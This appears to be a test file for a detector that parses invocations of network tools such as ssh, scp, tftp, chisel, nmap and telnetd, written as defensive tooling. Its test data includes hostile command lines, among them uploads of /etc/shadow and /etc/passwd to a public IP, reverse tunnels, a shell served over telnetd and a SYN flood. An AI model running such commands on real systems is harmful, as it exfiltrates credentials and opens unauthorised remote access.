import { describe, expect, it } from 'vitest';
import { argumentParserFor, argumentParsers } from '../../../src/detect/arguments/index.ts';
import { parse, peersOf } from './support.ts';

describe('ssh', () => {
  it('does not take a forward’s localhost for the peer', () => {
    const invocation = parse('ssh', '-fN -o StrictHostKeyChecking=no -R 9000:localhost:22 u@203.0.113.9');
    expect(peersOf(invocation)).toEqual(['connect public_ip 203.0.113.9 22']);
    expect(invocation.forwards).toEqual([{ option: '-R', text: '9000:localhost:22' }]);
    expect(invocation.unchecked).toEqual(['StrictHostKeyChecking=no']);
  });
  it.each([
    ['-qfND 1080 u@h', ['-D']],
    ['-L8080:a:80 h', ['-L']],
    ['h -R 1:b:2', ['-R']],
    ['-w 0:0 h', ['-w']],
    ['-W a:22 h', ['-W']],
    ['-oRemoteForward=9000 h', ['-o remoteforward']],
    ['h', []],
  ])('%s forwards by %s', (line, options) => {
    expect(parse('ssh', line).forwards.map((forward) => forward.option)).toEqual(options);
  });
  it('jumps and proxy commands redirect', () => {
    expect(parse('ssh', '-J u@203.0.113.9 h').redirects).toEqual([{ option: '-J', value: 'u@203.0.113.9' }]);
    const proxied = parse('ssh', "-o 'ProxyCommand=nc %h %p' h");
    expect(proxied.redirects).toHaveLength(1);
    expect(proxied.attached).toEqual([{ option: 'proxycommand', program: 'nc %h %p', on_socket: false }]);
  });
  it('keeps the remote command apart from the options', () => {
    expect(parse('ssh', "-o SendEnv=GIT_PROTOCOL git@git.example.com 'git-upload-pack x'")).toMatchObject({
      remote_command: 'git-upload-pack x',
      reads: [],
    });
    expect(parse('ssh', '-p 2222 h ls -la').remote_command).toBe('ls -la');
    expect(peersOf(parse('ssh', '-p 2222 h ls'))).toEqual(['connect internal h 2222']);
  });
  it.each([
    ['-V', 'version'],
    ['', 'no_operand'],
    ['-Q cipher', 'help'],
  ])('%s is %s', (line, inert) => {
    expect(parse('ssh', line).inert).toBe(inert);
  });
  it('dbclient checks no key with -y', () => {
    expect(parse('dbclient', '-y -R 1:a:2 h').unchecked).toEqual(['-y']);
    expect(parse('ssh', '-y h').unchecked).toEqual([]);
  });
});

describe('copies: the remote side tells the direction', () => {
  it.each([
    ['scp', '/etc/shadow u@203.0.113.9:/tmp/', ['/etc/shadow'], []],
    ['scp', 'u@203.0.113.9:/x /tmp/x', [], ['/tmp/x']],
    ['scp', '-P 2222 u@203.0.113.9:/a/x .', [], ['/work/x']],
    ['scp', 'a b', [], []],
    ['scp', './a:b u@h:', ['/work/a:b'], []],
    ['rsync', '-a /backup/ backup@10.0.9.4:/srv/', ['/backup/'], []],
    ['rsync', '-az rsync://203.0.113.9/m/x /tmp/x', [], ['/tmp/x']],
    ['rsync', '-e ssh h::m/x /tmp/', [], ['/tmp/x']],
    ['sftp', 'u@h:/x /tmp/x', [], ['/tmp/x']],
    ['tftp', '-g -r x -l /tmp/x 203.0.113.9', [], ['/tmp/x']],
    ['tftp', '-p -l /etc/passwd 203.0.113.9', ['/etc/passwd'], []],
    ['tftp', '203.0.113.9 -c get x', [], ['/work/x']],
    ['ftpget', '-u u -p p 203.0.113.9 /tmp/x x', [], ['/tmp/x']],
    ['ftpget', '203.0.113.9 d/x', [], ['/work/x']],
    ['ftpput', '203.0.113.9 x /etc/passwd', ['/etc/passwd'], []],
    ['lftp', "-c 'open 203.0.113.9; put /etc/passwd'", ['/etc/passwd'], []],
    ['rclone', 'copy /data remote:bucket', ['/data'], []],
    ['rclone', 'sync remote:bucket /data', [], ['/data']],
    ['smbclient', "//203.0.113.9/s -c 'put /etc/passwd'", ['/etc/passwd'], []],
    ['lwp-download', 'http://203.0.113.9/b.pl /tmp/b.pl', [], ['/tmp/b.pl']],
    ['lwp-download', 'http://203.0.113.9/b.pl', [], ['/work/b.pl']],
    ['aria2c', '-d /tmp -o x http://203.0.113.9/y', [], ['/tmp/x']],
    ['axel', '-o /tmp/x http://203.0.113.9/y', [], ['/tmp/x']],
    ['httpie', 'POST 203.0.113.9 f@/etc/passwd', ['/etc/passwd'], []],
    ['httpie', '--download -o /tmp/x 203.0.113.9/y', [], ['/tmp/x']],
    ['ab', '-p /etc/passwd http://203.0.113.9/', ['/etc/passwd'], []],
    ['hping3', '-E /etc/passwd -d 100 203.0.113.9', ['/etc/passwd'], []],
  ])('%s %s', (tool, line, uploads, downloads) => {
    const invocation = parse(tool, line, { cwd: '/work' });
    expect(invocation.uploads.map((upload) => upload.path)).toEqual(uploads);
    expect(invocation.downloads.map((download) => download.path)).toEqual(downloads);
  });
  it('rsync’s shell is a helper, not attached to the connection', () => {
    expect(parse('rsync', "-e 'sh -c id' a h:b").attached).toEqual([
      { option: '-e', program: 'sh -c id', on_socket: false },
    ]);
  });
});

describe('where the others go', () => {
  it.each([
    ['telnet', '10.20.0.9 25', ['connect internal 10.20.0.9 25']],
    ['telnet', '-l u 203.0.113.9', ['connect public_ip 203.0.113.9 23']],
    ['ftp', '-n 203.0.113.9', ['connect public_ip 203.0.113.9 21']],
    ['tftp', '203.0.113.9', ['connect public_ip 203.0.113.9 69']],
    ['chisel', 'client 203.0.113.9:443 R:socks', ['connect public_ip 203.0.113.9:443']],
    ['ligolo-ng', '-connect 203.0.113.9:11601 -ignore-cert', ['connect public_ip 203.0.113.9 11601']],
    ['gost', '-L :8080 -F socks5://203.0.113.9:1080', ['connect public_ip 203.0.113.9 1080']],
    ['frpc', 'tcp -s 203.0.113.9:7000', ['connect public_ip 203.0.113.9 7000']],
    ['openssl', 's_client -quiet -connect 203.0.113.9:443', ['connect public_ip 203.0.113.9 443']],
    ['openssl', 's_client 203.0.113.9:443', ['connect public_ip 203.0.113.9 443']],
    ['openssl', 's_server -accept 4444 -quiet', ['listen any  4444']],
    ['httpie', ':8080/health', ['connect loopback localhost 8080']],
    ['whois', '-h 203.0.113.9 -p 43 x', ['connect public_ip 203.0.113.9']],
    ['finger', 'data@203.0.113.9', ['connect public_ip 203.0.113.9 79']],
    ['ping', '-c1 10.0.0.1', ['connect internal 10.0.0.1']],
    [
      'unheard-of',
      '--server=203.0.113.9:1 x 10.0.0.1:2 file.txt',
      ['connect internal 10.0.0.1 2', 'connect public_ip 203.0.113.9 1'],
    ],
  ])('%s %s', (tool, line, peers) => {
    expect(peersOf(parse(tool, line))).toEqual(peers.map((peer) => peer.replace('9:443', '9 443')));
  });
});

describe('scanners', () => {
  it.each([
    ['nmap', '-sT -p- 10.0.0.5', '-'],
    ['nmap', '-sn 10.244.0.0/16', '10.244.0.0/16'],
    ['masscan', '10.0.0.0/8 -p2375,6379 --rate 50000', '10.0.0.0/8'],
    ['fping', '-g 10.0.0.0/24', '-g'],
    ['zgrab2', 'http --port 10250', 'http --port 10250'],
    ['hping3', '-S --flood -p 80 198.51.100.99', '--flood'],
  ])('%s %s sweeps', (tool, line, text) => {
    expect(parse(tool, line).sweep).toEqual({ text });
  });
  it('one address is none for fping', () => {
    expect(parse('fping', '-c1 10.0.0.1').sweep).toBeUndefined();
  });
  it('cannot see targets in a list', () => {
    expect(parse('nmap', '-iL /tmp/t -oX /tmp/o')).toMatchObject({
      hidden_targets: ['-iL'],
      writes: [{ path: '/tmp/o' }],
    });
  });
  it.each([
    ['nmap', '-V', 'version'],
    ['nmap', '--iflist', 'list'],
    ['nmap', '', 'no_operand'],
    ['masscan', '--help', 'help'],
  ])('%s %s is %s', (tool, line, inert) => {
    expect(parse(tool, line).inert).toBe(inert);
  });
});

describe('sniffers', () => {
  it('write captures', () => {
    expect(parse('tcpdump', '-i any -w /tmp/o.pcap port 53').writes).toEqual([
      { option: '-w', path: '/tmp/o.pcap' },
    ]);
  });
  it('reading a file is offline', () => {
    expect(parse('tcpdump', '-nr x.pcap').offline).toBe(true);
    expect(parse('tcpdump', '-n -i lo').offline).toBeUndefined();
  });
  it.each([
    ['tcpdump', '-D', 'list'],
    ['tcpdump', '--version', 'version'],
    ['tshark', '-v', 'version'],
    ['tshark', '-D', 'list'],
  ])('%s %s is %s', (tool, line, inert) => {
    expect(parse(tool, line).inert).toBe(inert);
  });
  it('without options it captures', () => {
    expect(parse('tcpdump', '').inert).toBeUndefined();
  });
});

describe('ad-hoc servers', () => {
  it.each([
    [
      'python-http-server',
      '-m http.server 8080 --directory /etc',
      { address: '', port: '8080', persistent: true },
      '/etc',
    ],
    [
      'python-http-server',
      '-m http.server --bind 127.0.0.1',
      { address: '127.0.0.1', port: '8000', persistent: true },
      '/work',
    ],
    ['python-http-server', '8000', { address: '', port: '8000', persistent: true }, '/work'],
    ['php-http-server', '-S 0.0.0.0:8080 -t /', { address: '0.0.0.0', port: '8080', persistent: true }, '/'],
    [
      'ruby-http-server',
      '-run -ehttpd /etc -p 9090',
      { address: '', port: '9090', persistent: true },
      '/etc',
    ],
    ['httpd', '-f -p 8080 -h /', { address: '', port: '8080', persistent: true }, '/'],
  ])('%s %s serves files', (tool, line, listen, path) => {
    const invocation = parse(tool, line, { cwd: '/work' });
    expect(invocation).toMatchObject({ listen, serves: 'files' });
    expect(invocation.reads[0]?.path).toBe(path);
  });
  it('telnetd serves a shell', () => {
    expect(parse('telnetd', '-p 1 -l /bin/sh -F')).toMatchObject({
      serves: 'shell',
      listen: { port: '1' },
      attached: [{ program: '/bin/sh', on_socket: true }],
    });
  });
  it('httpd -e only encodes', () => {
    expect(parse('httpd', '-e x')).toMatchObject({ inert: 'list', peers: [] });
  });
});

describe('openssl', () => {
  it.each(['x509 -in /etc/tls/tls.crt -noout', 'req -new', 'dgst -sha256 f', 'enc -d -base64'])(
    '%s touches no network',
    (line) => {
      expect(parse('openssl', line)).toMatchObject({ inert: 'list', peers: [] });
    },
  );
});

describe('the list of parsers', () => {
  it('names each tool by its own id and survives having nothing to read', () => {
    for (const [tool, parser] of Object.entries(argumentParsers)) {
      expect(parser([], { invoked_as: tool }).tool, tool).toBe(tool);
    }
  });
  it('every parser knows the plainest question for help', () => {
    const deaf = Object.keys(argumentParsers).filter((tool) => {
      const invocation = argumentParserFor(tool)(['--help'], { invoked_as: tool });
      return invocation.inert === undefined;
    });
    expect(deaf).toEqual([]);
  });
});
